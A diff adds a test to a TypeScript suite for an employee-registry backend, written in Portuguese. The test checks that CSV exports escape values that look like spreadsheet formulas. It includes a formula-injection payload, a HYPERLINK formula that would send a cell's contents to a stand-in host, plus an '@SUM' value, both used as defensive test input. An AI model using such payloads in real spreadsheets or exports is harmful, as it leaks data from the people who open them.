@@ -636,6 +636,17 @@ describeEachBackend('funcionarios', (backend) => {
       });
       expect((await exportar({}, beta)).status).toBe(404);
     });
+
+    it('um nome ou registro que parece fórmula sai como texto (apóstrofo antes), nunca como fórmula', async () => {
+      const nome = '=HYPERLINK("http://x.test/?"&A1;"Clique")';
+      const r = await salvar({ nome, registro: '@SUM(A1)' });
+      expect(r.status, JSON.stringify(r.body)).toBe(200);
+      const { cracha } = (await buscar(r.body.id)).funcionario;
+      const csv = await exportar({ opcaoExportar: 'FILTRO_TELA', funcionarios: [{ id: r.body.id }] });
+      const [linha] = csv.res.rawPayload.toString('latin1').split('\r\n');
+      expect(linha!.startsWith(`"'=HYPERLINK(""http://x.test/?""&A1;""Clique"")";`)).toBe(true);
+      expect(linha).toContain(`;${cracha};'@SUM(A1);`);
+    });
   });
 
   describe('outros cadastros', () => {
